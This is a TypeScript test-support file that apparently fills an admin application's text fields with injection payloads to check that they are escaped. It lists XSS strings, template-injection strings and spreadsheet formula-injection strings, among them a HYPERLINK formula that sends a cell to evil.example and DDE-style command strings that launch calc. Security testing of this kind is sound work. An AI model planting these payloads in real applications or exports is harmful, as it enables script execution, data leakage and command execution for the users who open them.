import { fieldsOf, fieldsWithVariants, type Field, type Entity } from '../../src/contract/entity.ts'
import { sampleOf } from '../support/samples.ts'

/** Part of all payloads: a search finds their records by it, and executed payloads write it. */
export const mark = 'pwned'

/** Texts that are markup, code or message placeholders if they are interpreted. */
export const markup = [
  `<img src=x onerror="${mark}(1)">`,
  `"><svg onload=${mark}(2)>`,
  `'><script>${mark}(3)</script>`,
  `</title></textarea></style><script>${mark}(4)</script>`,
  `<iframe srcdoc="<script>parent.${mark}(5)</script>"></iframe>`,
  `<a href="javascript:${mark}(6)" onmouseover=${mark}(6)>${mark}</a>`,
  `\${${mark}(7)} {{constructor.constructor('${mark}(7)')()}} %{name} |||| ${mark}`,
  `@@react-admin@@{"message":"<b onclick=${mark}(8)>"}`,
] as const

/** Payloads that are allowed in a person's name, which excludes most markup. */
export const names = { firstName: `@SUM'${mark}'`, lastName: `-2+3+${mark},calc` } as const

/** Texts that spreadsheets interpret as formulas. */
export const formulas = [
  `=HYPERLINK("https://evil.example/?"&A1;"${mark}")`,
  `+${mark}|' /C calc'!A0`,
  `-2+3+${mark}|' /C calc'!A0`,
  `@SUM(1+1)*${mark}`,
  `＝1+1 ${mark}`,
  `;=1+1,=2+2 "${mark}"`,
] as const

export const payloads: readonly string[] = [...markup, ...formulas]

/** The payload as a value of a field; undefined for kinds without free text. */
function valueOf({ kind, maxLength, items }: Field, payload: string, given: unknown): unknown {
  if (kind === 'text' || kind === 'longText') return payload.slice(0, maxLength)
  if (kind === 'url') return `https://example.com/${payload.replaceAll(/\s/g, '/')}`
  if (kind === 'properties') return { [payload]: payload }
  if (kind !== 'items' || !Array.isArray(given)) return given
  return given.map((one) => ({
    ...(one as object),
    ...Object.fromEntries(
      (items ?? []).filter((item) => item.kind === 'text').map(({ name }) => [name, payload]),
    ),
  }))
}

/** Kinds with free text, at least in part. */
const open: readonly Field['kind'][] = ['text', 'longText', 'url', 'properties', 'items']

/** The fields of an entity that take payloads, with those of the sample's variants. */
export const openFields = (entity: Entity): readonly Field[] =>
  fieldsWithVariants(entity, sampleOf(entity, 'open')).filter(
    ({ kind, readOnly, path, ofPerson }) =>
      open.includes(kind) && !readOnly && ofPerson === undefined && !isSpecial(entity, path),
  )

/** Texts with a format that no payload has. */
const isSpecial = ({ name }: Entity, path: string) =>
  [
    'users.email',
    'significant-events.link',
    'saved-views.resource',
    'allowed-hashes.hash',
    'casinos.integrationOptions',
    'casinos.publicKey',
    'casinos.thirdPartyProviderPublicKey',
  ].includes(`${name}.${path}`)

/** A record with a payload in each of these fields; `at` makes unique values unique. */
export function laden(entity: Entity, payload: string, at: string): Record<string, unknown> {
  const record = structuredClone(sampleOf(entity, `${mark}${at}`))
  for (const field of openFields(entity)) {
    const [top = '', inner] = field.path.split('.')
    if (inner === undefined) record[top] = valueOf(field, payload, record[top])
    else {
      const holder = record[top] as Record<string, unknown>
      holder[inner] = valueOf(field, payload, holder[inner])
    }
  }
  return record
}

/** A row that only the server writes, with payloads as texts, which come from other systems. */
export function poisoned(
  entity: Entity,
  row: Record<string, unknown>,
  payload: string,
): Record<string, unknown> {
  const texts = fieldsOf(entity).filter(({ kind, reference }) => kind === 'text' && !reference)
  return {
    ...row,
    ...Object.fromEntries(
      texts.filter(({ name }) => typeof row[name] === 'string').map(({ name }) => [name, payload]),
    ),
  }
}
